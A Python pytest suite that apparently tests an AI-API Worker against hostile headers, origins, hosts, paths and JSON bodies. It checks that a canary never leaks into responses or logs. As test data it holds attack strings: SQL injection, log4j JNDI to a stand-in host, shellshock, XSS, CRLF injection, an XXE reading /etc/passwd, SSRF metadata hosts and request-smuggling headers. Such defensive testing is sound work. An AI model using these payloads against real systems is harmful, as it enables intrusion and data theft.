"""Hostile ids, headers, origins, hosts and bodies: refused or taken, and told to nobody."""

import asyncio
import json
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass

import pytest

from tests.edgewise.hostile import MODEL
from tests.harness.credentials import API_KEYS
from tests.harness.deployments import Deployment, deploy, unlimited
from tests.harness.processes import wait_until
from tests.harness.witness import CANARY

pytestmark = pytest.mark.thorough

PATIENCE_S = 10.0
AT_ONCE = 16
FRIEND = "https://friend.example"
SETTINGS = {"API_KEYS": API_KEYS, "ALLOWED_ORIGINS": f"{FRIEND} http://localhost:3000"}
WELL_FORMED_ID = re.compile("[A-Za-z0-9-]{1,64}")
ANALYTICS = '\n[[env.local.analytics_engine_datasets]]\nbinding = "ANALYTICS"\n'
CHATS = "/v1/chat/completions"
RUNS = f"/client/v4/accounts/a/ai/run/{MODEL}"
ASKED = json.dumps({"model": MODEL, "prompt": CANARY, "max_tokens": 3}).encode()

# None of them is a well-formed id, and none a key.
VALUES = {
    "too long": "a" * 64 + CANARY,
    "very long": "a" * 8_000 + CANARY,
    "spaces": f"{CANARY} {CANARY}",
    "a tab": f"{CANARY}\ta",
    "a comma": f"{CANARY},{CANARY}",
    "quotes": f'"{CANARY}"',
    "an apostrophe": f"' OR '1'='1' -- {CANARY}",
    "a backslash": f"{CANARY}\\",
    "an escaped line end": f'{CANARY}\\n{{"time":"now"}}',
    "a record": f'{{"time":"now","id":"{CANARY}","status":200}}',
    "the end of a record": f'{CANARY}","status":200,"code":null}}',
    "percent codes": f"%0d%0ax-{CANARY}:%201",
    "log4j": f"${{jndi:ldap://{CANARY}.example/a}}",
    "shellshock": f"() {{ :;}}; echo {CANARY}",
    "a template": f"{{{{7*7}}}}{CANARY}",
    "a script": f"<script>alert('{CANARY}')</script>",
    "a path": f"../../{CANARY}",
    "an address": f"http://{CANARY}.example/?a=b#c",
    "an underscore": f"{CANARY}_",
    "a dot": f"{CANARY}.",
    "an equals sign": f"{CANARY}=",
    "a cookie": f"{CANARY}=1; path=/; domain=example",
    "an event": f"data: {CANARY}",
    "Latin-1": f"{CANARY}é",
    "UTF-8": f"{CANARY}é😀".encode().decode("latin-1"),
    "U+2028": f"{CANARY}\u2028".encode().decode("latin-1"),
    "half a character": f"{CANARY}\xf0\x9f",
    "an escape sequence": f"\x1b[31m{CANARY}",
    "a bell": f"{CANARY}\x07",
    "DEL": f"{CANARY}\x7f",
    "NUL": f"{CANARY}\0a",
    "a return": f"{CANARY}\rx-injected: 1",
    "a line end": f"{CANARY}!\nx-injected: {CANARY}!",
    "a folded line": f"{CANARY}\r\n {CANARY}",
    "a line of its own": f"{CANARY}!\r\nx-injected: {CANARY}!",
}
NAMES = (
    *("x-request-id", "cf-ray", "last-event-id", "content-type", "accept", "user-agent"),
    *("cf-connecting-ip", "x-forwarded-for", "authorization", "x-api-key", "accept-encoding"),
    *("cf-access-jwt-assertion", "cookie", "x-stainless-os", f"x-{CANARY}"),
)
# Those that matter where a model is asked; others are the same wherever they are sent.
OF_COMPLETIONS = {"content-type", "accept", "cf-connecting-ip", "x-api-key", "x-request-id"}
ORIGINS = (
    *("null", "*", "https://evil.example", f"https://{CANARY}.example", "http://friend.example"),
    *("https://friend.example.evil.example", "https://evil-friend.example", "friend.example"),
    *("https://friend.example:443", "https://friend.example:8443", "https://friend.example/"),
    *(f"https://friend.example/{CANARY}", "HTTPS://FRIEND.EXAMPLE", "https://friend.example."),
    *(f"https://friend.example, https://{CANARY}.example", "https://friend.example http://a"),
    *(
        f"https://{CANARY}@friend.example",
        "https://friend.example@evil.example",
        "//friend.example",
    ),
    *(f"https://friend.example#{CANARY}", f"https://friend.example?{CANARY}", "file://", "about:"),
    *(f"javascript:alert('{CANARY}')", f"chrome-extension://{CANARY}", "http://localhost:30000"),
    *("https://friend.example%00.evil.example", "https://friend.ex\xc3\xa4mple", "\xff\xfe"),
    *("https://" + "a" * 8_000 + ".example", f"[object {CANARY}]", "https://[::1]", "data:,"),
)
HOSTS = (
    *("evil.example", "evil.example:8787", f"{CANARY}.example", "localhost.evil.example"),
    *("127.0.0.1.nip.io", "127.0.0.1.evil.example:8787", "localhost.", "a.localhost", "0.0.0.0"),
    *("127.0.0.2", "10.0.0.1", "169.254.169.254", "[::2]", "[::]", "[::ffff:10.0.0.1]"),
    *(
        "localhost@evil.example",
        "evil.example:80",
        "localhost-evil.example",
        "xn--e1afmkfd.example",
    ),
    *(
        "evil.example\\localhost",
        "evil.example#localhost",
        "evil.example/localhost",
        "evil.example?",
    ),
    *("a" * 63 + ".example", "a" * 8_000, "workers-binding.ai", "metadata.google.internal"),
)
OF_THIS_MACHINE = ("localhost", "LOCALHOST", "127.0.0.1:1", "localhost:65535", "[::1]:8787")


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    """A Worker that takes keys, and whoever has none; and writes data points."""
    folder = tmp_path_factory.mktemp("target")
    with deploy(folder, SETTINGS, edit=lambda config: unlimited(config) + ANALYTICS) as deployment:
        yield deployment


@dataclass(frozen=True)
class Hostile:
    """
    A request as it goes over the wire.

    Attributes:
        headers: In order, values of Latin-1; `host` and `content-length` only when unusual.
    """

    name: str
    method: str
    path: str
    headers: Sequence[tuple[str, str]] = ()
    body: bytes = b""

    def wire(self, host: str) -> bytes:
        """Word it."""
        given = {name for name, _ in self.headers}
        usual = [("host", host)] if "host" not in given else []
        if not given & {"content-length", "transfer-encoding"} and self.method == "POST":
            usual.append(("content-length", str(len(self.body))))
        lines = [f"{name}: {value}\r\n" for name, value in [*usual, *self.headers]]
        heading = f"{self.method} {self.path} HTTP/1.1\r\n{''.join(lines)}connection: close\r\n\r\n"
        return heading.encode("latin-1") + self.body


@dataclass(frozen=True)
class Answer:
    """
    What came back.

    Attributes:
        headers: Lower-case names.
        whole: All of it, as it came.
        is_ours: Whether the Worker saw the request; wrangler and workerd refuse some by themselves.
    """

    status: int
    headers: Mapping[str, str]
    whole: bytes

    @property
    def is_ours(self) -> bool:
        return "x-request-id" in self.headers


async def send(case: Hostile, address: str) -> Answer:
    """Send a request and read until the connection is closed."""
    host, _, port = address.removeprefix("http://").partition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        writer.write(case.wire(f"{host}:{port}"))
        whole = await asyncio.wait_for(reader.read(-1), PATIENCE_S)
    finally:
        writer.close()
    head = whole.partition(b"\r\n\r\n")[0].decode("latin-1")
    status, *lines = head.split("\r\n")
    pairs = (line.partition(":") for line in lines)
    headers = {name.lower(): value.strip() for name, _, value in pairs}
    return Answer(int(status.split()[1]), headers, whole)


def ask_all(target: Deployment, cases: Iterable[Hostile]) -> dict[str, Answer]:
    """
    Send all of them, some at once, and look at every answer and every line of the log.

    Returns:
        The answers of those that the Worker saw.
    """
    target.ai.reset()
    before, lines_before = len(target.records()), len(target.log)
    gate = asyncio.Semaphore(AT_ONCE)

    async def ask(case: Hostile) -> tuple[Hostile, Answer]:
        async with gate:
            return case, await send(case, target.address)

    async def ask_each() -> list[tuple[Hostile, Answer]]:
        return await asyncio.gather(*map(ask, cases))

    answered = asyncio.run(ask_each())
    for case, answer in answered:
        assert 200 <= answer.status < 500, (case, answer)
        assert CANARY.encode() not in answer.whole, (case, answer)
        assert "x-injected" not in answer.headers, (case, answer)
    ours = {case.name: answer for case, answer in answered if answer.is_ours}
    wait_until(lambda: len(target.records()) >= before + len(ours), seconds=10)
    # Another line may come a little later, but not after that of another request.
    target.client.get("/health", headers={"x-request-id": "the-end"})
    target.record("the-end")
    records = target.records()[before:-1]
    ids = [answer.headers["x-request-id"] for answer in ours.values()]
    assert all(map(WELL_FORMED_ID.fullmatch, ids))
    assert sorted(record["id"] for record in records) == sorted(ids)
    said = [line for line in target.log[lines_before:] if not line.startswith("[wrangler:info]")]
    assert [line for line in said if CANARY in line or not line.startswith("{")] == []
    target.log.clear()
    return ours


@pytest.mark.parametrize("name", NAMES)
def test_hostile_header_is_told_to_nobody(target: Deployment, name: str) -> None:
    method, path = ("POST", "/run") if name in OF_COMPLETIONS else ("GET", "/v1/models")
    body = ASKED if method == "POST" else b""
    cases = [Hostile(kind, method, path, [(name, value)], body) for kind, value in VALUES.items()]

    ours = ask_all(target, cases)

    assert len(ours) >= 30
    expected = {401} if name in ("authorization", "x-api-key") else {200}
    assert {ours[kind].status for kind in ("too long", "a record", "log4j", "UTF-8")} == expected


def test_hostile_id_of_an_event_is_sent_away_without_it(target: Deployment) -> None:
    path = f"/run?prompt={CANARY}"
    cases = [
        Hostile(kind, "GET", path, [("last-event-id", value)]) for kind, value in VALUES.items()
    ]

    ours = ask_all(target, cases)

    assert {answer.status for answer in ours.values()} == {204}
    assert not target.ai.received


def test_hostile_origin_is_told_nothing(target: Deployment) -> None:
    asked = ("access-control-request-method", "POST")
    cases = [
        case
        for origin in ORIGINS
        for case in (
            Hostile(f"{origin} asks", "POST", "/run", [("origin", origin)], ASKED),
            Hostile(f"{origin} before", "OPTIONS", CHATS, [("origin", origin), asked]),
        )
    ]

    ours = ask_all(target, cases)

    assert len(ours) >= 50
    told = [name for answer in ours.values() for name in answer.headers]
    assert not [name for name in told if name.startswith("access-control-")]


def test_hostile_names_of_headers_are_not_allowed_to_pages(target: Deployment) -> None:
    pre = [("origin", FRIEND), ("access-control-request-method", "POST")]
    cases = [
        Hostile(kind, "OPTIONS", CHATS, [*pre, ("access-control-request-headers", value)])
        for kind, value in VALUES.items()
    ]

    ours = ask_all(target, cases)

    assert len(ours) >= 30
    assert {answer.headers["access-control-allow-origin"] for answer in ours.values()} == {FRIEND}


def test_foreign_host_is_refused(target: Deployment) -> None:
    cases = [
        Hostile(f"{method} {host}", method, "/run?prompt=a", [("host", host)], ASKED)
        for host in HOSTS
        for method in ("GET", "POST")
    ]

    ours = ask_all(target, cases)

    assert len(ours) >= 30
    assert {answer.status for answer in ours.values()} == {403}
    assert all(b'"code":"host_not_allowed"' in answer.whole for answer in ours.values())
    assert not target.ai.received


def test_name_of_this_machine_is_served(target: Deployment) -> None:
    cases = [Hostile(host, "GET", "/health", [("host", host)]) for host in OF_THIS_MACHINE]

    assert {answer.status for answer in ask_all(target, cases).values()} == {200}


def bodies() -> dict[str, bytes]:
    """JSON that is invalid, or more than it seems."""
    ask = b'{"model":"' + MODEL.encode() + b'","max_tokens":3,"prompt":"' + CANARY.encode() + b'"'
    turn = b'{"role":"user","content":"' + CANARY.encode() + b'"'
    say = b'{"model":"' + MODEL.encode() + b'","max_tokens":3,"messages":['
    tool = b'}],"tools":[{"type":"function","function":{"name":"f","parameters":'
    nines = b"9" * 1_000_000
    found = {
        "a name twice": ask + b',"prompt":"b"}',
        "a name twice in a message": say + turn + b',"role":"system"}]}',
        "a name twice in a schema": say + turn + tool + b'{"a":1,"a":2}}}]}',
        "a name twice in an unknown field": ask + b',"x":{"' + CANARY.encode() + b'":1,"b":2}}',
        "a name twice, escaped": ask + b',"\\u0070rompt":"b"}',
        "truncated": ask,
        "truncated in a text": ask[:-1],
        "truncated in an escape": ask[:-1] + b"\\u00",
        "two documents": ask + b"}" + ask + b"}",
        "a comma too many": ask + b",}",
        "comments": ask + b"/* " + CANARY.encode() + b" */}",
        "apostrophes": ask.replace(b'"', b"'") + b"}",
        "a byte order mark": b"\xef\xbb\xbf" + ask + b"}",
        "UTF-16": (ask + b"}").decode().encode("utf-16"),
        "Latin-1": ask[:-1] + b'\xe9"}',
        "overlong": ask[:-1] + b'\xc0\xaf"}',
        "half a pair": ask[:-1] + b'\\ud800"}',
        "half a pair in UTF-8": ask[:-1] + b'\xed\xa0\x80"}',
        "half a pair in a message": say + turn[:-1] + b'\\udfff"}]}',
        "NUL": ask[:-1] + b'\0"}',
        "64 levels of an unknown field": ask + b',"x":' + b"[" * 63 + b"]" * 63 + b"}",
        "65 levels of an unknown field": ask + b',"x":' + b"[" * 64 + b"]" * 64 + b"}",
        "100,000 levels": b'{"a":' * 100_000,
        "100,000 levels of a schema": say + turn + tool + b'{"a":' * 100_000,
        "a text": b'"' + CANARY.encode() + b'"',
        "an array": b"[" + ask + b"}]",
        "a number": b"1",
        "null": b"null",
        "an XML document": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "a form": b"prompt=" + CANARY.encode(),
    }
    for number in (b"NaN", b"Infinity", b"-Infinity", b"1e999", b"-1e999", b"0x10", b"01", b".5"):
        found[f"temperature {number.decode()}"] = ask + b',"temperature":' + number + b"}"
        found[f"an unknown field {number.decode()}"] = ask + b',"x":[{"y":' + number + b"}]}"
    for name in (b"max_tokens", b"seed", b"temperature", b"x"):
        found[f"a million digits of {name.decode()}"] = ask + b',"' + name + b'":' + nines + b"}"
    return found


@pytest.mark.parametrize("path", ["/run", CHATS, RUNS])
def test_hostile_json_is_refused_or_taken_and_told_to_nobody(target: Deployment, path: str) -> None:
    cases = [Hostile(kind, "POST", path, body=body) for kind, body in bodies().items()]

    ours = ask_all(target, cases)

    assert len(ours) == len(cases)
    assert ours["truncated"].status == 400
    assert {answer.status for answer in ours.values()} <= {200, 400, 413}


def test_odd_request_is_answered_and_told_to_nobody(target: Deployment) -> None:
    size = ("content-length", str(len(ASKED)))
    chunked = ("transfer-encoding", "chunked")
    chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(ASKED), ASKED)
    many = [(f"x-{CANARY}-{number}", CANARY) for number in range(200)]
    odd = [
        Hostile("many headers", "POST", "/run", many, ASKED),
        Hostile("a header many times", "POST", "/run", [("x-a", CANARY)] * 200, ASKED),
        Hostile("an id twice", "POST", "/run", [("x-request-id", CANARY)] * 2, ASKED),
        Hostile("two keys", "POST", "/run", [("x-api-key", CANARY)] * 2, ASKED),
        Hostile("two lengths", "POST", "/run", [size, ("content-length", "1")], ASKED),
        Hostile("a length and chunks", "POST", "/run", [size, chunked], chunks),
        Hostile("chunks", "POST", "/run", [chunked], chunks),
        Hostile("an extension", "POST", "/run", [chunked], chunks.replace(b"\r", b";a=b\r", 1)),
        Hostile("a trailer", "POST", "/run", [chunked], chunks[:-2] + b"x-a: c4n4ry\r\n\r\n"),
        Hostile("a negative length", "POST", "/run", [("content-length", "-1")], ASKED),
        Hostile("a length in words", "POST", "/run", [("content-length", CANARY)], ASKED),
        Hostile("less than it says", "POST", "/run", [("content-length", "5")], ASKED),
        Hostile("no length", "POST", "/run", [("content-length", "0")]),
        Hostile("a body of a GET", "GET", "/health", [size], ASKED),
        Hostile("an upgrade", "GET", "/health", [("upgrade", CANARY)]),
        Hostile("TRACE", "TRACE", "/run", [("x-a", CANARY)]),
        Hostile("a gzipped body", "POST", "/run", [("content-encoding", "gzip")], ASKED),
        Hostile("dots in the path", "GET", f"/../../{CANARY}"),
        Hostile("dots in code", "GET", f"/%2e%2e/%2e%2e/{CANARY}"),
        Hostile("slashes", "GET", f"//{CANARY}//run"),
        Hostile("a backslash", "GET", f"\\{CANARY}"),
        Hostile("NUL in the path", "GET", f"/run/%00{CANARY}"),
        Hostile("half a character in the path", "GET", f"/run/%f0%9f{CANARY}"),
        Hostile("a script in the path", "GET", f"/<script>{CANARY}</script>"),
        Hostile("a long path", "GET", f"/{CANARY * 1_000}"),
        Hostile("a long query", "GET", f"/run?{CANARY * 2_000}"),
        Hostile("a model with a line end", "POST", f"/run/%0d%0a{CANARY}", (), ASKED),
        Hostile("an account with slashes", "POST", f"/client/v4/accounts/{CANARY}%2f/ai/run/a"),
        Hostile("a whole address", "GET", f"http://{CANARY}.example/health"),
    ]

    ours = ask_all(target, odd)

    assert len(ours) >= 20, "the others were refused before the Worker saw them"
